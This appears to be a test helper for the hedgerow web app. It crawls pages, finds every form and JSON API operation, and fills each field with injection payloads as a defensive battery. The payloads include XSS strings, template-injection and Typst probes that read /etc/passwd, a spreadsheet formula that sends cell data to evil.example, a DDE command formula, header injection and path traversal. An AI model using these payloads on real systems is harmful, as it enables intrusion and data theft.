"""What intruders write into forms, and how every form and every field of the API is found to write it into.

Forms are found twice: in the pages themselves, as a browser would fill them in, and in the route table, where every
field gets the same hostile value. A new form or field is in the battery by being there.
"""

from __future__ import annotations

import json
import os
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any, Final
from urllib.parse import quote, urljoin, urlsplit

from fastapi import FastAPI
from fastapi.routing import APIRoute
from httpx2 import Response
from selectolax.lexbor import LexborHTMLParser, LexborNode

from console.signed_in import SignedIn
from hedgerow.console.access.gate import Declared
from hedgerow.console.routes import GatedRoute

MARK: Final = "hostileMark"
"""Stands in everything that would run or be markup, so that the battery knows it again."""
_SCRIPT: Final = f'"\'><script>alert("{MARK}")</script><img src=x onerror=alert("{MARK}")><svg/onload=alert("{MARK}")>'
_TEMPLATE: Final = "{{7*191}}${7*191}#{7*191}<%= 7*191 %>{% include '/etc/passwd' %}{{ self.__init__ }}"
_TYPST: Final = '#read("/etc/passwd") #import "x": * $x$ @y <z> ]] )) */ // ``` \\u{41} #eval("7*191") #while true {}'
_BIDI: Final = "\u202eknab\u202c\u2066\u200b\u200d\ufeff\U000e0041 e\u0301" + "\u0300" * 40
HOSTILE: Final[dict[str, str]] = {
    "script": f"{_SCRIPT}{_TEMPLATE}",
    "typst": f"{_TYPST}{_BIDI}",
    "formula": f'=HYPERLINK("https://evil.example/?"&A1,"{MARK}")',
    "formula behind a tab": f"\t=cmd|' /C calc'!A0{MARK}",
    "header": f"x\r\nSet-Cookie: {MARK}=1\r\nBcc: {MARK}@evil.example\r\n\r\n<b>",
    "nul": f"a\x00b\x01\x08\x1b[31m\x7f\x85\ufffe{MARK}",
    "unpaired": "a\ud800b",
    "path": "../../../../../../etc/passwd",
    "path in codes": "..%2f..%2f..%2fetc%2fpasswd%00.txt",
    "address": f"javascript:alert('{MARK}')//https://evil.example/{MARK}",
    "large": "A" * 1_000_000,
    "number": "9" * 40,
    "negative": "-1",
    "not a number": "NaN",
    "earliest": "0001-01-01T00:00",
    "latest": "9999-12-31T23:59",
}
"""Each kind of trouble by its name. `HEDGEROW_HOSTILE=all` sends every one; the suite those that differ in what they
meet, and on the second database those that databases differ about."""
MEASURES: Final = ("number", "negative", "not a number", "earliest", "latest")
"""These go into fields for numbers and moments, too."""
_ALL: Final = os.environ.get("HEDGEROW_HOSTILE") == "all"
SENT: Final = [
    ("sqlite", kind) for kind in HOSTILE if _ALL or kind in ("script", "typst", "formula", "header", "large")
]
SENT_TO_BOTH: Final = [(d, k) for d in ("sqlite", "postgresql") for k in ("nul", "unpaired", "number", "latest")]
LEAVES: Final = re.compile(
    r"/sign-out$|/account/(password|sessions/end)$|/sign-in|/set-up|/disable$|/users/\w+/re?set$"
)
"""Forms that would end the session at hand; they are tried by name elsewhere."""


@dataclass
class Form:
    """A form as a page has it."""

    action: str
    page: str
    multipart: bool
    fixed: dict[str, str] = field(default_factory=dict)
    """Hidden fields, choices, ticks: what a page gives to choose from."""
    open: dict[str, str] = field(default_factory=dict)
    """Fields to write into, and their kind."""
    most: dict[str, int] = field(default_factory=dict)
    """How long a browser lets them be."""


def gated(routes: list[Any]) -> Iterator[tuple[Declared, GatedRoute]]:
    """Every route with its declaration, also below routers that were taken in."""
    for route in routes:
        if isinstance(route, GatedRoute) and route.declared is not None:
            yield route.declared, route
        inner = getattr(route, "original_router", None) or getattr(route, "routes", None)
        if inner is not None and not isinstance(route, APIRoute):
            yield from gated(inner if isinstance(inner, list) else inner.routes)


ALIKE: Final = re.compile(
    r"(?<=/)([0-9a-z]{20}|[0-9a-f]{64}|[0-9a-f]{24}|[0-9a-f]{16}|[A-Z]{2}(_[A-Z]+)?|\d{4}-\d\d|\d+|en|fr)(?=/|$)"
)
"""Parts of a path that tell one case, letter, regime from another."""


def crawl(browser: SignedIn, starts: list[str]) -> dict[str, Response]:
    """Every kind of page and of export that can be reached by links: two of each, as cases and letters are alike."""
    found: dict[str, Response] = {}
    shapes: dict[str, int] = {}
    waiting = list(starts)
    while waiting:
        path = waiting.pop(0)
        shape = ALIKE.sub("*", path.partition("?")[0])
        if path in found or shapes.get(shape, 0) >= 2:
            continue
        shapes[shape] = shapes.get(shape, 0) + 1
        answer = browser.client.get(path, follow_redirects=False)
        found[path] = answer
        if not answer.headers.get("content-type", "").startswith("text/html"):
            continue
        for link in LexborHTMLParser(answer.text).css("a[href]"):
            target = urlsplit(urljoin(f"http://x{path}", link.attributes.get("href") or ""))
            if target.netloc == "x" and not target.path.startswith(("/static/", "/live")):
                waiting.append(target.path + (f"?{target.query}" if target.query else ""))
    return found


def forms_of(path: str, page: str) -> Iterator[Form]:
    """The forms of a page that change something."""
    for node in LexborHTMLParser(page).css("form"):
        if (node.attributes.get("method") or "").lower() != "post":
            continue
        action = urlsplit(urljoin(f"http://x{path}", node.attributes.get("action") or "")).path
        if LEAVES.search(action):
            continue
        form = Form(action, path, node.attributes.get("enctype") == "multipart/form-data")
        for item in node.css("input[name], textarea[name], select[name]"):
            _take(form, item)
        yield form


ENDS: Final = re.compile(r"/(remove|withdraw|close|done|end|dismiss|lift|refuse)$")


def in_order(pages: dict[str, Response]) -> list[Form]:
    """The forms of pages, each kind once; those that end something come last."""
    found: dict[str, Form] = {}
    for path, page in pages.items():
        if page.headers.get("content-type", "").startswith("text/html"):
            for form in forms_of(path, page.text):
                found.setdefault(f"{form.action} {sorted({**form.fixed, **form.open})}", form)
    return sorted(found.values(), key=lambda f: bool(ENDS.search(f.action)))


def _take(form: Form, item: LexborNode) -> None:
    name = item.attributes.get("name") or ""
    kind = "textarea" if item.tag == "textarea" else item.attributes.get("type") or "text"
    if item.tag == "select":
        values = [o.attributes.get("value") or "" for o in item.css("option")]
        form.fixed[name] = next((v for v in reversed(values) if v), "")
    elif kind in ("hidden", "checkbox", "radio"):
        form.fixed.setdefault(name, item.attributes.get("value") or "")
    elif kind == "file":
        form.open[name] = "file"
    else:
        form.open[name] = kind
    if (most := item.attributes.get("maxlength") or "").isdigit():
        form.most[name] = int(most)


PLAIN: Final = {
    "number": "1",
    "date": "2026-12-24",
    "datetime-local": "2026-11-26T11:00",
    "email": "a@b.example",
    "password": "orchard kettle seven lanterns",
}


def fill_in(browser: SignedIn, form: Form, value: str, *, everywhere: bool) -> Response:
    """Sends a form with a hostile value where words are asked for, or in every field that is open."""
    words = {n: value for n, k in form.open.items() if k != "file"}
    if not everywhere:
        words = {n: PLAIN.get(form.open[n], v[: form.most.get(n, len(v))]) for n, v in words.items()}
    said = {**form.fixed, **words, "csrf": browser.csrf}
    files = {
        n: (value.replace("\ud800", "?"), value.encode("utf-8", "replace")) for n, k in form.open.items() if k == "file"
    }
    return post(browser, form.action, said, files if form.multipart else None)


def post(
    browser: SignedIn, path: str, said: dict[str, str], files: dict[str, tuple[str, bytes]] | None = None
) -> Response:
    """Posts a form; what no text can be is sent as the bytes that are no UTF-8."""
    if files is not None:
        clean = {n: v.encode("utf-8", "surrogatepass") for n, v in said.items()}
        return browser.client.post(path, data=clean, files=files, follow_redirects=False)
    body = "&".join(f"{_coded(n)}={_coded(v)}" for n, v in said.items())
    return browser.client.post(
        path,
        content=body.encode(),
        headers={"content-type": "application/x-www-form-urlencoded"},
        follow_redirects=False,
    )


def _coded(text: str) -> str:
    return quote(text.encode("utf-8", "surrogatepass"), safe="")


def bodies(schema: dict[str, Any], node: dict[str, Any], value: str, depth: int = 0) -> Any:
    """A document of a schema with the hostile value in every place where words may stand."""
    while "$ref" in node:
        node = schema["components"]["schemas"][node["$ref"].rpartition("/")[2]]
    for several in ("anyOf", "oneOf", "allOf"):
        if several in node:
            return bodies(schema, node[several][0], value, depth)
    if "enum" in node:
        return node["enum"][0]
    if "const" in node:
        return node["const"]
    kind = node.get("type")
    if kind == "object":
        if depth > 6:
            return {}
        made = {n: bodies(schema, p, value, depth + 1) for n, p in node.get("properties", {}).items()}
        return made if made or "properties" in node else {"name": value, value[:50]: value}
    if kind == "array":
        return [bodies(schema, node.get("items", {}), value, depth + 1)]
    if kind == "integer":
        return min(node.get("maximum", 10**30), 10**30)
    if kind == "number":
        return 1e308
    if kind == "boolean":
        return True
    pattern = node.get("pattern", "")
    if re.fullmatch(r"\^\([\w|]+\)\$", pattern):
        return pattern[2:-2].partition("|")[0]
    return {"date-time": "9999-12-31T23:59:59Z", "date": "0001-01-01"}.get(node.get("format", ""), value)


def api_posts(app: FastAPI, value: str) -> Iterator[tuple[str, str, bytes]]:
    """Method, path and JSON body for every writing operation of the API."""
    schema = app.openapi()
    for path, operations in schema["paths"].items():
        for method, operation in operations.items():
            content = operation.get("requestBody", {}).get("content", {})
            if "application/json" in content:
                body = bodies(schema, content["application/json"]["schema"], value)
                # Escaped to ASCII: so an unpaired surrogate gets as far as it can.
                yield method.upper(), path, json.dumps(body).encode()
